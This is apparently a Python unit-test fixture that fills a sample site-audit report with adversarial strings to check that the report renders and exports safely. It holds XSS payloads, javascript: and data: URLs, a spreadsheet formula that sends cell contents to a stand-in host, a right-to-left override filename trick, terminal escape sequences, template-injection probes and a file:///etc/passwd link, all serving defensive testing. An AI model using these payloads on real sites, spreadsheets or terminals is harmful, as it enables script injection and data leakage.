"""The sample report with every text replaced by something a hostile page might hold."""

from dataclasses import replace

from reports.model import Finding, HostLoad, LinkFault, NotChecked, Report
from tests.unit.reports.sample_report import sample_report

SCRIPT = "<script>alert(1)</script>\"'&<img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
REVERSED = "附件\u202excod.exe\u2066 x\u2069"
ESCAPES = "\x1b[2J\x1b]0;owned\x07title\x9b31m\r\nline two\x00\x08"
HUGE = "长" * 100_000
LONE_SURROGATE = "half \ud83d emoji"
TEMPLATE = "{{ 7*7 }} {% raw %} {site.name} %s {0}"
TEXTS = (
    SCRIPT,
    FORMULA,
    REVERSED,
    ESCAPES,
    HUGE,
    LONE_SURROGATE,
    TEMPLATE,
    "+1",
    "-1",
    "@SUM(A1)",
    "",
)
URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://x.example/\"onmouseover=\"alert(1)",
    "https://x.example/" + "a" * 5_000,
    "  https://blank.example/ ",
    "http:///no-host",
    "internal:'总览'!A1",
    "file:///etc/passwd",
    "https://x.example/<b>",
    "",
)  # fmt: skip


def hostile_report() -> Report:
    report = sample_report()
    return replace(
        report,
        site=replace(report.site, name=SCRIPT + ESCAPES, url=URLS[0], code=FORMULA),
        run=replace(report.run, complete=False, stopped_because=ESCAPES + SCRIPT, user_agent=HUGE),
        findings=tuple(_finding(report.findings[0], number) for number in range(40)),
        columns=tuple(
            replace(column, name=TEXTS[number % len(TEXTS)], url=URLS[number % len(URLS)])
            for number, column in enumerate(report.columns)
        ),
        links=replace(
            report.links, broken=tuple(_fault(report.links.broken[0], n) for n in range(400))
        ),
        policies=tuple(
            replace(policy, title=TEXTS[number % len(TEXTS)], doc_number=SCRIPT, url=URLS[0])
            for number, policy in enumerate(report.policies)
        ),
        load=tuple(
            HostLoad(f"{text}{number}", report.load[0].day, number, 10**15, number)
            for number, text in enumerate((*TEXTS, *URLS) * 9)
        ),
        not_checked=tuple(NotChecked(text, text) for text in TEXTS * 20),
    )


def _finding(finding: Finding, number: int) -> Finding:
    text = TEXTS[number % len(TEXTS)]
    return replace(
        finding,
        id=f"h{number}",
        indicator=f"rule-{number % 13}",
        title=text,
        subject=text,
        summary=text,
        remedy=text,
        clause=text,
        owner=TEXTS[number % 3],
        url=URLS[number % len(URLS)],
        sources=URLS,
        evidence=TEXTS,
        details={text: text},
    )


def _fault(fault: LinkFault, number: int) -> LinkFault:
    return replace(
        fault,
        url=URLS[number % len(URLS)] + str(number),
        anchor=TEXTS[number % len(TEXTS)],
        sources=URLS * 30,
        outcome="new_outcome",
    )
